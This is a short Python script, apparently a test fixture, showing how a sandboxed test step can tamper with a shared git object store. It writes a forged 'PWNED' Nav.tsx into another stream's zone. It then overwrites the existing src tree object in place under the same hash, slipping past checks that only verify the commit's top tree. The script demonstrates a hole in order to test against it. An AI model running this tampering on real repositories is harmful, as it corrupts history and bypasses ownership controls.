"""What a stream's sandboxed `test:` can do to the object store (tests/merge/test_run.py): rewrite the
`src` tree of the commit under test in place (the same id, other content), so that it brings a file of
another stream's zone, `src/components/Nav.tsx` (ui's). git checks a commit's tree, not the trees below it."""

import os
import subprocess
import zlib


def git(*args: str, input: bytes | None = None) -> bytes:
    return subprocess.run(["git", *args], input=input, capture_output=True, check=True).stdout


common = git("rev-parse", "--git-common-dir").decode().strip()
src = git("rev-parse", "HEAD:src").decode().strip()
blob = git("hash-object", "-w", "--stdin", input=b"PWNED\n").decode().strip()
components = git("mktree", input=b"100644 blob %s\tNav.tsx\n" % blob.encode()).decode().strip()
entries = [e for e in git("ls-tree", src).decode().splitlines() if not e.endswith("\tcomponents")]
evil = git("mktree", input=("\n".join([*entries, f"040000 tree {components}\tcomponents"]) + "\n").encode())
raw = git("cat-file", "tree", evil.decode().strip())
path = os.path.join(common, "objects", src[:2], src[2:])
with open(path + ".new", "wb") as f:
    f.write(zlib.compress(b"tree %d\0" % len(raw) + raw))
os.rename(path + ".new", path)
